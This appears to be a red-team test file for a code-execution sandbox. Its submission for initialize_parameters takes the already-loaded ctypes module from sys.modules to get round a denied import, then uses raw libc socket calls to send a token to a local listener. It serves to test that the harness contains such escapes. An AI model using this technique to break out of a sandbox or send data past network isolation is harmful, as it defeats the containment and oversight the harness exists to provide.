# RED-TEAM ATTACK (issue 9): sockets straight from libc, through a ctypes the harness already loaded.
# Route: `import ctypes` is denied, but sys.modules['ctypes'] is there when the fork server imported
#   it for itself; libc's socket(), connect() and send() need no Python socket module at all.
# Contained when: the listener on 127.0.0.1 hears nothing, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import struct
import sys

LEAK = "REDTEAM" + "-LEAK: "


def initialize_parameters(n_x, n_h, n_y):
    ctypes = sys.modules.get("ctypes")
    if ctypes is None or "CDLL" not in vars(ctypes):
        raise RuntimeError("no ctypes within reach")
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    if fd < 0:
        raise RuntimeError("socket() refused, errno %d" % ctypes.get_errno())
    address = struct.pack("<H", 2) + struct.pack(">H", __TCP_PORT__) + bytes([127, 0, 0, 1]) + bytes(8)
    buffer = ctypes.create_string_buffer(address, len(address))
    if libc.connect(fd, buffer, len(address)) != 0:
        raise RuntimeError("connect() refused, errno %d" % ctypes.get_errno())
    message = b"__TOKEN__ libc\n"
    libc.send(fd, message, len(message), 0)
    libc.close(fd)
    raise RuntimeError(LEAK + "libc connected to 127.0.0.1:__TCP_PORT__")
